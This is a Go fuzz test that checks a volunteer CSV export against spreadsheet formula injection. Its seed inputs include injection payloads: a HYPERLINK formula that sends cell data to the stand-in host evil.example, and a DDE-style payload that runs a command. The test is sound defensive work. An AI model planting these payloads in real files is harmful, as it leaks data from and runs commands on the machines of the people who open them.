package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/civisphere/civisphere/backend/domain"
)

// FuzzVolunteerCSVExport: whatever people typed in a profile, the CSV export reads back as the
// same number of rows and columns, and no field starts with what a spreadsheet takes for a
// formula (= + - @, tab, carriage return).
func FuzzVolunteerCSVExport(f *testing.F) {
	for _, s := range []string{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", "+33 6 12 34 56 78", "@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3", "\t=1", "\r=1", "Élodie; \"Œuvre\"\nligne 2", "Ольга", "\ufeff=1", "", "\"=1\""} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, name, text string) {
		v := domain.Volunteer{ID: 1, FirstName: name, LastName: text, Email: text, Phone: text, City: name, Postcode: text,
			Bio: text, Notes: name, Status: domain.StatusActive,
			Skills: []domain.VolunteerSkill{{SkillID: domain.CustomSkillID(text), Name: text, Level: domain.LevelExpert}}}
		var buf bytes.Buffer
		n, err := WriteVolunteersCSV(&buf, sliceSource([]domain.Volunteer{v}), frLabels())
		if err != nil || n != 1 {
			t.Fatalf("rows %d, err %v", n, err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff"))))
		r.Comma = ';'
		r.LazyQuotes = false
		records, err := r.ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("%d records, %v:\n%q", len(records), err, buf.String())
		}
		for _, field := range records[1] {
			if field != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(field[0])) {
				t.Fatalf("field %q would be read as a formula", field)
			}
		}
	})
}
